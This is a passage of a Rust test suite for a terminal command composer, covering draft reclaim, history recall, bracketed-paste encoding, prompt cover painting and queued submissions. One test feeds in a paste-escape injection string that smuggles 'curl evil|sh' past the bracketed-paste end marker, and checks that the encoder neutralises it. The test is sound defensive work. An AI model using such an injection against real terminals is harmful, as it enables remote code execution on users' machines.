    pump_counters(&mut st, &b, now);
    let bytes = st.activate(&b);
    assert_eq!(bytes, vec![0x03], "clear chord ships on a dirty activate");
    assert_eq!(st.draft, "dir /w", "typed text reclaimed into the draft");
    assert_eq!(st.mode, ComposerMode::Compose);
    assert!(st.caret_to_end, "caret goes to the end of the reclaim");
    assert!(st.want_focus);
}

#[test]
fn activate_appends_below_existing_draft() {
    let mut b = backend_at_clean_prompt();
    b.advance_live(b"typed");
    let mut st = ComposerState {
        draft: "held".into(),
        ..Default::default()
    };
    st.recall = Some((RecallSrc::Recs(0), "old".into()));
    let now = T0;
    pump_counters(&mut st, &b, now);
    let bytes = st.activate(&b);
    assert_eq!(bytes, vec![0x03]);
    assert_eq!(st.draft, "held\ntyped", "reclaim appends, never replaces");
    assert!(st.caret_to_end);
    assert!(st.recall.is_none(), "reclaim is an edit: recall walk resets");
}

#[test]
fn activate_falls_back_to_discard() {
    let mut b = backend_at_clean_prompt();
    b.advance_live(b"echo 'abc\r\n>> more");
    assert!(matches!(b.reclaim, Reclaim::MultiLine));
    let mut st = ComposerState {
        draft: "held".into(),
        ..Default::default()
    };
    let bytes = st.activate(&b);
    assert_eq!(bytes, vec![0x03], "v1 discard: chord still ships");
    assert_eq!(st.draft, "held", "no guessed text ever enters the draft");
    assert_eq!(st.mode, ComposerMode::Compose);

    let b = backend_at_clean_prompt();
    let mut st = ComposerState::default();
    assert!(st.activate(&b).is_empty());
}

#[test]
fn insert_history_stashes_and_restores() {
    let recs: Vec<BlockRec> = ["a", "b"].iter().map(|c| rec(c)).collect();
    let mut st = ComposerState {
        draft: "half-typed".into(),
        ..Default::default()
    };
    st.insert_history("git push");
    assert_eq!(st.draft, "git push");
    assert!(st.caret_to_end);
    assert!(st.want_focus);
    assert_eq!(
        st.recall,
        Some((RecallSrc::History, "half-typed".to_string()))
    );

    st.recall_next(&recs);
    assert_eq!(st.draft, "half-typed");
    assert!(st.recall.is_none());

    let mut st = ComposerState {
        draft: "half-typed".into(),
        ..Default::default()
    };
    st.insert_history("git push");
    st.recall_prev(&recs);
    assert_eq!(st.draft, "b", "History recall walk starts at the newest rec");
    st.recall_next(&recs);
    assert_eq!(
        st.draft, "half-typed",
        "past-newest restores the SAVED string for both sources"
    );
    assert!(st.recall.is_none());

    let mut st = ComposerState::default();
    st.insert_history("ls");
    assert_eq!(st.draft, "ls");
    assert!(st.recall.is_none());

    let mut st = ComposerState {
        draft: "x".into(),
        ..Default::default()
    };
    st.insert_history("y");
    st.draft = "y".into();
    let backend = Rig::plain();
    let _ = st.submit(&backend, None, None, T0);
    assert!(st.recall.is_none());
}

#[test]
fn run_enable_rule() {
    let now = T0;
    let recs: Vec<BlockRec> = Vec::new();
    let b = backend_at_clean_prompt();

    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    assert!(st.history_run_allowed(&b, &recs, true, now));

    st.mode = ComposerMode::Compose;
    assert!(st.history_run_allowed(&b, &recs, true, now));

    let open = vec![BlockRec {
        end_off: None,
        ..rec("sleep")
    }];
    let mut busy = ComposerState::default();
    busy.on_stream_events(1, 0, now);
    busy.on_stream_events(1, 1, now);
    assert!(!busy.history_run_allowed(&b, &open, true, now));
    busy.mode = ComposerMode::Compose;
    assert!(!busy.history_run_allowed(&b, &open, true, now));

    assert!(
        st.history_run_allowed(&b, &open, true, now),
        "a live latch overrides a stale open rec"
    );

    let mut dirty = backend_at_clean_prompt();
    dirty.advance_live(b"stray");
    let mut st = ComposerState::default();
    pump_counters(&mut st, &dirty, now);
    assert!(!st.history_run_allowed(&dirty, &recs, true, now));

    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    assert!(!st.history_run_allowed(&b, &recs, false, now));
}

#[test]
fn recall_walks_and_dedupes() {
    let recs: Vec<BlockRec> = ["a", "b", "b", "", "c"].iter().map(|c| rec(c)).collect();
    let mut st = ComposerState {
        draft: "draft0".into(),
        ..Default::default()
    };
    st.recall_prev(&recs);
    assert_eq!(st.draft, "c");
    st.recall_prev(&recs);
    assert_eq!(st.draft, "b");
    st.recall_prev(&recs);
    assert_eq!(st.draft, "a");
    st.recall_prev(&recs);
    assert_eq!(st.draft, "a");
    st.recall_next(&recs);
    assert_eq!(st.draft, "b");
    st.recall_next(&recs);
    assert_eq!(st.draft, "c");
    st.recall_next(&recs);
    assert_eq!(st.draft, "draft0");
    assert!(st.recall.is_none());

    let backend = Rig::plain();
    st.recall_prev(&recs);
    assert!(st.recall.is_some());
    st.draft = "x".into();
    let _ = st.submit(&backend, None, None, T0);
    assert!(st.recall.is_none());
}

#[test]
fn submission_bytes_matrix() {
    let plain = Rig::plain();
    let mut bracketed = Rig::plain();
    bracketed.advance(b"\x1b[?2004h");
    assert!(bracketed.is_bracketed());

    assert_eq!(submission_bytes(&plain, "echo hi"), b"echo hi\r");
    assert_eq!(
        submission_bytes(&bracketed, "echo hi"),
        b"\x1b[200~echo hi\x1b[201~\r".to_vec()
    );

    assert_eq!(submission_bytes(&plain, "echo hi\n"), b"echo hi\r");
    assert_eq!(submission_bytes(&plain, "echo hi\r\n\n"), b"echo hi\r");

    assert_eq!(submission_bytes(&plain, "a\r\nb\nc"), b"a\rb\rc\r");
    assert_eq!(
        submission_bytes(&bracketed, "a\nb"),
        b"\x1b[200~a\rb\x1b[201~\r".to_vec()
    );

    let uni = "echo é漢🎉";
    let mut want = uni.as_bytes().to_vec();
    want.push(b'\r');
    assert_eq!(submission_bytes(&plain, uni), want);

    assert_eq!(submission_bytes(&plain, ""), b"\r");
    assert_eq!(submission_bytes(&bracketed, "  \n"), b"\r");

    let evil = "echo hi\x1b[201~curl evil|sh\rmore";
    let out = submission_bytes(&bracketed, evil);
    assert_eq!(out.iter().filter(|&&b| b == 0x1b).count(), 2);
    assert!(out.ends_with(b"\x1b[201~\r"));
    assert!(!submission_bytes(&plain, "x\x1by").contains(&0x1b));
}

#[test]
fn submission_bytes_of_normalized_draft() {
    let plain = Rig::plain();
    let mut bracketed = Rig::plain();
    bracketed.advance(b"\x1b[?2004h");
    let draft = normalize_paste_text("a\r\nb\r\n");
    assert_eq!(draft, "a\nb");
    assert_eq!(
        submission_bytes(&bracketed, &draft),
        b"\x1b[200~a\rb\x1b[201~\r".to_vec()
    );
    let single = normalize_paste_text("dir\r\n");
    assert_eq!(single, "dir");
    assert_eq!(submission_bytes(&plain, &single), b"dir\r");
}

fn sim_frame(
    st: &mut ComposerState,
    b: &mut Rig,
    recs: &[BlockRec],
    now: Instant,
) -> Option<i32> {
    let f = b.block_feed.as_ref().unwrap();
    let (pre, exec) = (f.pre_seen, f.exec_seen);
    st.on_stream_events(pre, exec, now);
    st.tick(b, recs, true, true, now);
    if let Some((l, c, cwd, cmd)) = st.take_pending_history_cover() {
        b.add_history_cover(l, c, cwd, cmd);
    }
    let comp_active = st.mode == ComposerMode::Compose;
    let cl = cover_line_for(st, b, comp_active, now);

    if cl.is_some() {
        assert!(
            st.submit_hold.is_some() || st.mode == ComposerMode::Compose,
            "cover granted with no painter (empty-box frame): mode {:?}",
            st.mode
        );
    }
    cl
}

fn backend_full_screen_prompt() -> Rig {
    let mut b = Rig::new(40, 6);
    b.enable_block_scan();
    b.advance_live(b"l0\r\nl1\r\nl2\r\nl3\r\nl4\r\n");
    let mut d = hook_bytes("pre", r#"{"e":0,"n":1,"d":"C:"}"#);
    d.extend_from_slice(b"PS C:\\> ");
    d.extend_from_slice(b"\x1b]133;B\x07");
    b.advance_live(&d);
    assert!(b.cursor_at_prompt_end());
    assert_eq!(
        b.block_feed.as_ref().unwrap().prompt_end,
        Some((5, 8)),
        "prompt parked on the bottom row"
    );
    b
}

#[test]
fn hold_pin_shifts_with_scroll_and_converts_at_true_row() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, now), Some(5), "armed");
    assert_eq!(st.mode, ComposerMode::Compose);

    st.draft = "ls".into();
    let (bytes, spacer) = st.submit(&b, Some(5), Some("C:\\"), T0);
    assert_eq!(bytes, b"ls\r");
    assert!(!spacer);

    let mut d = hook_bytes("exec", r#"{"c":"ls"}"#);
    d.extend_from_slice(b"ls\r\nout1\r\nout2\r\nout3\r\n");
    b.advance_live(&d);
    assert_eq!(b.history_size(), 4, "test must scroll");

    let cl = sim_frame(&mut st, &mut b, &recs, now);
    assert_eq!(cl, None, "hold released after the scrolled echo");

    let covers = b.healthy_covers();
    assert_eq!(covers.len(), 1, "exactly one history cover");
    assert_eq!(covers[0].line, 1, "cover at the true (shifted) echo row");
    assert_eq!(covers[0].cmd.as_deref(), Some("ls"));
    assert!(b.row_has_text_at(1, 8, "ls"), "the covered row carries the echo");
}

#[test]
fn submit_window_frame_walk() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, now), Some(5));

    st.draft = "ls".into();
    let _ = st.submit(&b, Some(5), Some("C:\\"), T0);

    b.advance_live(&hook_bytes("exec", r#"{"c":"ls"}"#));
    assert_eq!(
        sim_frame(&mut st, &mut b, &recs, now),
        Some(5),
        "exec-before-echo: the ghost must keep covering the bare prompt row"
    );
    assert!(st.submit_hold.is_some());

    b.advance_live(b"ls");
    assert_eq!(
        sim_frame(&mut st, &mut b, &recs, now),
        None,
        "echo landed: released, no armed cover while busy"
    );
    let covers = b.healthy_covers();
    assert_eq!((covers.len(), covers[0].line), (1, 5), "history cover in place");

    let mut d = b"\r\nout1\r\nout2\r\n".to_vec();
    d.extend(hook_bytes("pre", r#"{"e":0,"n":2,"d":"C:"}"#));
    b.advance_live(&d);
    assert_eq!(b.history_size(), 3);
    assert_eq!(
        sim_frame(&mut st, &mut b, &recs, now),
        Some(5),
        "pre→133;B window: the incoming prompt row is blanked (no raw flash)"
    );

    assert_eq!(st.mode, ComposerMode::Compose);

    let covers = b.healthy_covers();
    assert_eq!((covers.len(), covers[0].line), (1, 2), "cover shifted rigidly");

    let mut d = b"PS C:\\> ".to_vec();
    d.extend_from_slice(b"\x1b]133;B\x07");
    b.advance_live(&d);
    assert_eq!(
        sim_frame(&mut st, &mut b, &recs, now),
        Some(5),
        "armed cover only on the latched-clean fresh prompt row"
    );
    assert_eq!(st.mode, ComposerMode::Compose);

    assert_eq!(b.healthy_covers()[0].line, 2);
}

#[test]
fn empty_enter_no_premature_arm_between_pre_and_133b() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, now), Some(5));

    let (bytes, spacer) = st.submit(&b, Some(5), Some("C:\\"), T0);
    assert_eq!(bytes, b"\r");
    assert!(spacer);
    b.mark_prompt_spacer();

    b.advance_live(&hook_bytes("pre", r#"{"e":0,"n":2,"d":"C:"}"#));
    assert!(
        b.cursor_line() == 5,
        "reorder premise: cursor hasn't moved yet"
    );
    assert_eq!(
        sim_frame(&mut st, &mut b, &recs, now),
        None,
        "pre with the cursor still parked on the old prompt end must NOT paint a cover"
    );

    assert_eq!(st.mode, ComposerMode::Compose);

    b.advance_live(b"\r\n");
    let mut d = b"PS C:\\> ".to_vec();
    d.extend_from_slice(b"\x1b]133;B\x07");
    b.advance_live(&d);
    assert_eq!(
        sim_frame(&mut st, &mut b, &recs, now),
        Some(5),
        "fresh prompt latched clean: cover on the new bottom row"
    );
    assert_eq!(st.mode, ComposerMode::Compose);

    let covers = b.healthy_covers();
    assert_eq!(covers.len(), 1);
    assert_eq!(covers[0].line, 4, "spacer rode the scroll");
    assert!(covers[0].cmd.is_none(), "spacer paints blank");
}

#[test]
fn enter_spam_covers_land_on_distinct_true_rows() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, now), Some(5));

    for n in 0..5u32 {
        assert_eq!(st.mode, ComposerMode::Compose, "iteration {n} starts armed");
        st.draft = "ls".into();
        let cl = cover_line_for(&st, &b, true, now);
        let _ = st.submit(&b, cl, Some("C:\\"), T0);

        let mut d = hook_bytes("exec", r#"{"c":"ls"}"#);
        d.extend_from_slice(b"ls\r\nout\r\n");
        d.extend(hook_bytes("pre", &format!(r#"{{"e":0,"n":{},"d":"C:"}}"#, n + 2)));
        d.extend_from_slice(b"PS C:\\> ");
        d.extend_from_slice(b"\x1b]133;B\x07");
        b.advance_live(&d);
        assert_eq!(
            sim_frame(&mut st, &mut b, &recs, now),
            Some(5),
            "iteration {n} re-arms on the fresh bottom prompt"
        );
    }

    let covers = b.healthy_covers();
    let mut lines: Vec<i32> = covers
        .iter()
        .filter(|c| c.cmd.is_some())
        .map(|c| c.line)
        .collect();
    assert_eq!(lines.len(), 5, "one cover per spammed submit");
    lines.sort_unstable();
    lines.dedup();
    assert_eq!(lines.len(), 5, "no two covers stacked on one row");
    for c in covers.iter().filter(|c| c.cmd.is_some()) {
        assert!(
            b.row_has_text_at(c.line, c.col, "ls"),
            "cover at {} sits on a row that really shows its echo",
            c.line
        );
    }
}

#[test]
fn enter_fusion_guard() {
    assert_eq!(enter_action(true, true, false), EnterAction::Submit);
    assert_eq!(enter_action(true, false, false), EnterAction::Submit);
    assert_eq!(enter_action(false, true, true), EnterAction::Queue);
    assert_eq!(enter_action(false, false, true), EnterAction::Queue);
    assert_eq!(enter_action(false, true, false), EnterAction::InsertNewline);
    assert_eq!(enter_action(false, false, false), EnterAction::Swallow);

    let plain = Rig::plain();
    let draft = "ls\necho hi";
    assert_eq!(
        submission_bytes(&plain, draft),
        b"ls\recho hi\r",
        "each buffered line is its own submission — never `lsechols`"
    );
}

#[test]
fn lane_content_submit_window_walk() {
    let now = T0;
    let b = backend_at_clean_prompt();
    let mut st = ComposerState::default();
    pump_counters(&mut st, &b, now);
    st.mode = ComposerMode::Compose;
    assert_eq!(lane_content(&st, true, false, false, now), LaneContent::Editor);

    st.draft = "ls".into();
    let _ = st.submit(&b, Some(0), Some("C:\\"), T0);
    assert_eq!(lane_content(&st, true, false, false, now), LaneContent::Editor);

    st.on_stream_events(1, 1, now);
    assert_eq!(lane_content(&st, true, false, true, now), LaneContent::Editor);
    st.submit_hold = None;
    st.last_activity = Some(now);
    assert_eq!(lane_content(&st, true, false, true, now), LaneContent::Editor);
    st.on_stream_events(2, 1, now);
    assert_eq!(lane_content(&st, true, false, true, now), LaneContent::Editor);

    let mut st = ComposerState::default();
    st.on_stream_events(1, 0, now);
    st.mode = ComposerMode::Compose;
    st.draft = "ls".into();
    let _ = st.submit(&b, Some(0), Some("C:\\"), T0);
    st.blur_to_grid();
    assert_eq!(lane_content(&st, true, false, false, now), LaneContent::Frozen);
    st.submit_hold = None;
    st.last_activity = Some(now);
    assert_eq!(
        lane_content(&st, true, false, true, now),
        LaneContent::Quiet,
        "an open block younger than REVEAL never shows the busy row"
    );

    let mut st = ComposerState::default();
    st.on_stream_events(1, 0, now);
    st.on_stream_events(1, 1, now);
    st.mode = ComposerMode::Raw(RawReason::Busy);
    assert_eq!(lane_content(&st, true, false, true, now), LaneContent::Quiet);
    let later = now + REVEAL + Duration::from_millis(1);
    assert_eq!(lane_content(&st, true, false, true, later), LaneContent::Busy);

    let mut st = ComposerState {
        mode: ComposerMode::Raw(RawReason::UserRaw),
        ..Default::default()
    };
    assert_eq!(lane_content(&st, true, false, false, now), LaneContent::Label);
    st.last_activity = Some(now);
    assert_eq!(lane_content(&st, true, false, false, now), LaneContent::Quiet);
    assert_eq!(lane_content(&st, true, false, false, later), LaneContent::Label);

    assert_eq!(lane_content(&st, false, false, false, now), LaneContent::SessionEnded);
    assert_eq!(lane_content(&st, true, true, false, now), LaneContent::AltScreen);

    st.reconnecting = true;
    assert_eq!(
        lane_content(&st, false, false, false, now),
        LaneContent::Reconnecting
    );
    assert_eq!(
        lane_content(&st, true, false, false, later),
        LaneContent::Reconnecting
    );
    st.asleep = true;
    assert_eq!(lane_content(&st, false, false, false, now), LaneContent::Asleep);
    st.asleep = false;
    st.reconnecting = false;
}

#[test]
fn blind_triple_submit_executes_as_clean_sequential_blocks() {
    let recs: Vec<BlockRec> = Vec::new();
    let mut t = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, t), Some(5));

    st.draft = "lsdf".into();
    let (bytes, _) = st.submit(&b, cover_line_for(&st, &b, true, t), Some("C:\\"), T0);
    assert_eq!(bytes, b"lsdf\r");
    assert!(st.buffering());
    for cmd in ["dfs", "ds", "f"] {
        st.draft = cmd.into();
        st.queue_draft();
    }
    assert_eq!(st.pending.len(), 3);

    let mut executed = vec![b"lsdf\r".to_vec()];
    for n in 0..8u32 {
        let last = executed.last().unwrap();
        let cmd = String::from_utf8(last[..last.len() - 1].to_vec()).unwrap();
        let mut d = hook_bytes("exec", &format!(r#"{{"c":"{cmd}"}}"#));
        d.extend_from_slice(cmd.as_bytes());
        d.extend_from_slice(b"\r\n");
        d.extend(hook_bytes("pre", &format!(r#"{{"e":1,"n":{},"d":"C:"}}"#, n + 2)));
        d.extend_from_slice(b"PS C:\\> ");
        d.extend_from_slice(b"\x1b]133;B\x07");
        b.advance_live(&d);
        t += Duration::from_millis(80);
        let _ = sim_frame(&mut st, &mut b, &recs, t);
        assert_eq!(st.mode, ComposerMode::Compose, "the editor is never yielded");
        assert!(
            st.take_pending_clear().is_none(),
            "clean fast typing: no chord, no flush, ever"
        );
        if let Some((bytes, spacer)) =
            st.pump_pending(&b, cover_line_for(&st, &b, true, t), Some("C:\\"), t)
        {
            assert!(!spacer);
            executed.push(bytes);
        }
        if executed.len() == 4 && !st.buffering() && st.submit_hold.is_none() {
            break;
        }
    }
    assert_eq!(
        executed,
        vec![
            b"lsdf\r".to_vec(),
            b"dfs\r".to_vec(),
            b"ds\r".to_vec(),
            b"f\r".to_vec()
        ],
        "one command per prompt cycle, in typed order"
    );

    let covers = b.healthy_covers();
    let mut lines: Vec<i32> = covers
        .iter()
        .filter(|c| c.cmd.is_some())
        .map(|c| c.line)
        .collect();
    assert_eq!(lines.len(), 4, "every blind command got its ❯ cover");
    lines.sort_unstable();
    lines.dedup();
    assert_eq!(lines.len(), 4, "no two covers stacked on one row");
    for c in covers.iter().filter(|c| c.cmd.is_some()) {
        assert!(
            b.row_has_text_at(c.line, c.col, c.cmd.as_deref().unwrap()),
            "cover at {} sits on the row that shows its echo",
            c.line
        );
    }
}

#[test]
fn alt_flip_flushes_buffer_to_app_same_tick() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, now), Some(5));

    st.draft = "codex".into();
    let _ = st.submit(&b, Some(5), Some("C:\\"), T0);

    st.draft = "hello".into();

    let mut d = hook_bytes("exec", r#"{"c":"codex"}"#);
    d.extend_from_slice(b"codex\r\n\x1b[?1049h");
    b.advance_live(&d);
    pump_counters(&mut st, &b, now);
    st.tick(&b, &recs, true, false, now + Duration::from_millis(60));

    assert_eq!(st.mode, ComposerMode::Raw(RawReason::AltScreen));
    assert_eq!(
        st.take_pending_clear().as_deref(),
        Some(b"hello".as_ref()),
        "buffered keys reach the app in the flip's own tick"
    );
    assert!(st.draft.is_empty(), "flushed, not duplicated");
}

#[test]
fn busy_threshold_holds_compose_and_buffers_typing() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, now), Some(5));

    st.draft = "ping -n 3 localhost".into();
    let _ = st.submit(&b, Some(5), Some("C:\\"), T0);
    let mut d = hook_bytes("exec", r#"{"c":"ping -n 3 localhost"}"#);
    d.extend_from_slice(b"ping -n 3 localhost\r\nPinging...\r\n");
    b.advance_live(&d);
    pump_counters(&mut st, &b, now);
    st.draft = "dfs".into();

    st.tick(&b, &recs, true, false, now + POST_SUBMIT_FLUSH - Duration::from_millis(10));
    assert_eq!(st.mode, ComposerMode::Compose);
    assert!(st.take_pending_clear().is_none());
    assert_eq!(st.draft, "dfs");

    st.tick(&b, &recs, true, false, now + POST_SUBMIT_FLUSH + Duration::from_millis(10));
    assert_eq!(st.mode, ComposerMode::Compose, "the editor never yields on the threshold");
    assert!(st.take_pending_clear().is_none(), "no raw flush, ever");
    assert_eq!(st.draft, "dfs", "typing stays visible in the draft");
    assert!(!st.buffering(), "the window itself is closed");

    st.queue_draft();
    assert!(st.pump_pending(&b, None, Some("C:\\"), now + Duration::from_secs(1)).is_none(),
        "never dispatches into the running command");
    let mut d = b"\r\ndone\r\n".to_vec();
    d.extend(hook_bytes("pre", r#"{"e":0,"n":2,"d":"C:"}"#));
    d.extend_from_slice(b"PS C:\\> ");
    d.extend_from_slice(b"\x1b]133;B\x07");
    b.advance_live(&d);
    let t2 = now + Duration::from_secs(2);
    pump_counters(&mut st, &b, t2);
    st.tick(&b, &recs, true, false, t2);
    let (bytes, spacer) = st
        .pump_pending(&b, None, Some("C:\\"), t2)
        .expect("queued submission fires at the clean fresh prompt");
    assert_eq!(bytes, b"dfs\r");
    assert!(!spacer);
}

#[test]
fn empty_window_expires_holding_compose() {
    let recs: Vec<BlockRec> = Vec::new();
    let now = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, now), Some(5));

    st.draft = "cargo build".into();
    let _ = st.submit(&b, Some(5), Some("C:\\"), T0);
    let mut d = hook_bytes("exec", r#"{"c":"cargo build"}"#);
    d.extend_from_slice(b"cargo build\r\n   Compiling...\r\n");
    b.advance_live(&d);
    pump_counters(&mut st, &b, now);

    let late = now + POST_SUBMIT_FLUSH + Duration::from_millis(10);
    st.tick(&b, &recs, true, false, late);
    assert_eq!(st.mode, ComposerMode::Compose, "no yield at the threshold");
    assert!(st.take_pending_clear().is_none(), "no bytes for an empty buffer");
    assert!(!st.buffering());
    assert_eq!(
        lane_content(&st, true, false, true, late),
        LaneContent::Editor,
        "the strip lane stays the editor across the busy span"
    );
}

fn submit_ready(st: &ComposerState, b: &TermBackend, recs: &[BlockRec], now: Instant) -> bool {
    let i = st.gate_inputs(b, recs, true, now);
    st.mode == ComposerMode::Compose
        && i.running
        && !i.alt
        && !i.open_block
        && i.at_prompt
        && !st.buffering()
}

#[test]
fn editor_never_leaves_across_submit_cycle() {
    let recs: Vec<BlockRec> = Vec::new();
    let t0 = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, t0), Some(5));
    st.draft = "npm run build".into();
    let _ = st.submit(&b, Some(5), Some("C:\\"), T0);

    let mut exec = hook_bytes("exec", r#"{"c":"npm run build"}"#);
    exec.extend_from_slice(b"npm run build\r\n");
    let mut prompt = hook_bytes("pre", r#"{"e":0,"n":2,"d":"C:"}"#);
    prompt.extend_from_slice(b"PS C:\\> ");
    let mut schedule: Vec<(u64, Vec<u8>)> = vec![
        (20, exec),
        (300, b"building...\r\n".to_vec()),
        (1200, b"done\r\n".to_vec()),
        (1230, prompt),
        (1245, b"\x1b]133;B\x07".to_vec()),
    ];
    let mut fed = 0usize;
    let mut ready_at: Option<u64> = None;
    for el in (0..=1500u64).step_by(4) {
        let now = t0 + Duration::from_millis(el);
        while fed < schedule.len() && schedule[fed].0 <= el {
            let bytes = std::mem::take(&mut schedule[fed].1);
            b.advance_live(&bytes);
            pump_counters(&mut st, &b, now);
            fed += 1;
        }
        let _ = sim_frame(&mut st, &mut b, &recs, now);
        assert_eq!(
            lane_content(&st, true, false, false, now),
            LaneContent::Editor,
            "lane must be Editor at every frame (t=+{el}ms)"
        );
        if ready_at.is_none() && el > 0 && submit_ready(&st, &b, &recs, now) {
            ready_at = Some(el);
        }
    }
    let ready = ready_at.expect("submit-ready must return");

    assert!(
        (1230..=1249).contains(&ready),
        "submit-ready within one frame of the prompt bytes, got +{ready}ms"
    );

    let t0 = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState {
        is_ssh: true,
        ..Default::default()
    };
    assert_eq!(sim_frame(&mut st, &mut b, &recs, t0), Some(5));
    st.draft = "ls".into();
    let _ = st.submit(&b, Some(5), Some("~"), T0);
    let mut exec = hook_bytes("exec", r#"{"c":"ls"}"#);
    exec.extend_from_slice(b"ls\r\nfile1\r\n");
    let mut prompt = hook_bytes("pre", r#"{"e":0,"n":2,"d":"~"}"#);
    prompt.extend_from_slice(b"PS C:\\> \x1b]133;B\x07");
    let mut schedule: Vec<(u64, Vec<u8>)> = vec![(350, exec), (380, prompt)];
    let mut fed = 0usize;
    let mut ready_at: Option<u64> = None;
    for el in (0..=600u64).step_by(4) {
        let now = t0 + Duration::from_millis(el);
        while fed < schedule.len() && schedule[fed].0 <= el {
            let bytes = std::mem::take(&mut schedule[fed].1);
            b.advance_live(&bytes);
            pump_counters(&mut st, &b, now);
            fed += 1;
        }
        let _ = sim_frame(&mut st, &mut b, &recs, now);
        assert_eq!(
            lane_content(&st, true, false, false, now),
            LaneContent::Editor,
            "ssh 350ms RTT: no per-submit blink (t=+{el}ms)"
        );
        if ready_at.is_none() && el > 0 && submit_ready(&st, &b, &recs, now) {
            ready_at = Some(el);
        }
    }
    let ready = ready_at.expect("ssh submit-ready must return");

    assert!(
        ready <= 384,
        "ssh ready by one frame after the prompt bytes, got +{ready}ms"
    );
}

#[test]
fn heur_editor_never_leaves_across_submit_cycle() {
    let (mut b, mut st, recs, t0) = heur_episode_setup();
    let t1 = t0 + HEUR_QUIET + Duration::from_millis(100);
    st.tick(&b, &recs, true, true, t1);
    assert_eq!(st.mode, ComposerMode::Compose);
    let cover = cover_line_for(&st, &b, true, t1);
    let _ = st.dispatch_submission(&b, cover, None, "apt update", t1);
    let _ = st.take_submit_cmd();

    let mut schedule: Vec<(u64, Vec<u8>)> = vec![
        (30, b"apt update\r\n".to_vec()),
        (700, b"Reading package lists...\r\n".to_vec()),
        (1500, b"Done\r\n".to_vec()),
        (1520, b"root@box:/# ".to_vec()),
    ];
    let mut fed = 0usize;
    let mut latch_was_down = false;
    let mut minted_at: Option<u64> = None;
    for el in (0..=2000u64).step_by(4) {
        let now = t1 + Duration::from_millis(el);
        while fed < schedule.len() && schedule[fed].0 <= el {
            let bytes = std::mem::take(&mut schedule[fed].1);
            b.advance_live(&bytes);
            fed += 1;
        }
        st.tick(&b, &recs, true, true, now);
        assert_eq!(
            lane_content(&st, true, false, true, now),
            LaneContent::Editor,
            "heuristic lane: the editor never leaves (t=+{el}ms)"
        );

        if !st.heur_live(&b) {
            latch_was_down = true;
        } else if latch_was_down && minted_at.is_none() {
            minted_at = Some(el);
        }
    }
    let minted = minted_at.expect("fresh heuristic latch must mint");

    assert!(
        minted >= 1520,
        "re-mint only after the fresh nested prompt paints, got +{minted}ms"
    );
}

#[test]
fn typed_during_busy_stays_in_draft() {
    let recs: Vec<BlockRec> = Vec::new();
    let t0 = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, t0), Some(5));
    st.draft = "npm test".into();
    let _ = st.submit(&b, Some(5), Some("C:\\"), T0);

    let mut exec = hook_bytes("exec", r#"{"c":"npm test"}"#);
    exec.extend_from_slice(b"npm test\r\n");
    b.advance_live(&exec);
    pump_counters(&mut st, &b, t0);

    let t_type = t0 + Duration::from_millis(600);
    st.tick(&b, &recs, true, true, t_type);
    assert_eq!(st.mode, ComposerMode::Compose, "box present while typing");
    st.draft = "git status".into();

    st.queue_draft();

    let t_demote = t_type + DEMOTE + Duration::from_millis(100);
    st.tick(&b, &recs, true, true, t_demote);
    assert_eq!(
        st.mode,
        ComposerMode::Compose,
        "typing during busy can never DEMOTE the box into hidden-until-click"
    );
    assert!(st.take_pending_clear().is_none(), "nothing leaks to the PTY");

    let mut d = b"ok\r\n".to_vec();
    d.extend(hook_bytes("pre", r#"{"e":0,"n":2,"d":"C:"}"#));
    d.extend_from_slice(b"PS C:\\> ");
    d.extend_from_slice(b"\x1b]133;B\x07");
    b.advance_live(&d);
    let t_prompt = t0 + Duration::from_millis(1245);
    pump_counters(&mut st, &b, t_prompt);
    st.tick(&b, &recs, true, true, t_prompt);
    assert_eq!(st.mode, ComposerMode::Compose);
    let (bytes, spacer) = st
        .pump_pending(&b, None, Some("C:\\"), t_prompt)
        .expect("queued submission fires at the clean fresh prompt");
    assert_eq!(bytes, b"git status\r");
    assert!(!spacer);
    assert!(!st.episode_used || st.mode == ComposerMode::Compose, "no ManualOnly trap");
}

#[test]
fn busy_compose_survives_demote_clock() {
    let recs: Vec<BlockRec> = Vec::new();
    let t0 = T0;
    let mut b = backend_full_screen_prompt();
    let mut st = ComposerState::default();
    assert_eq!(sim_frame(&mut st, &mut b, &recs, t0), Some(5));
    st.draft = "sleep 60".into();
    let _ = st.submit(&b, Some(5), Some("C:\\"), T0);
    let mut exec = hook_bytes("exec", r#"{"c":"sleep 60"}"#);
    exec.extend_from_slice(b"sleep 60\r\n");
    b.advance_live(&exec);
    pump_counters(&mut st, &b, t0);
    st.tick(&b, &recs, true, true, t0 + DEMOTE + Duration::from_secs(5));
    assert_eq!(
        st.mode,
        ComposerMode::Compose,
        "busy-by-latch-drop (busy_since) is a healthy Compose steady state"
    );

    let open = vec![BlockRec {
        epoch: 1,
        n: 0,
        cmd: "sleep 60".into(),
        cwd: None,
        exit: None,
        started_ms: 0,
        ended_ms: None,
        start_off: 0,
        end_off: None,
        truncated: false,
            nested_shell: false,
    }];
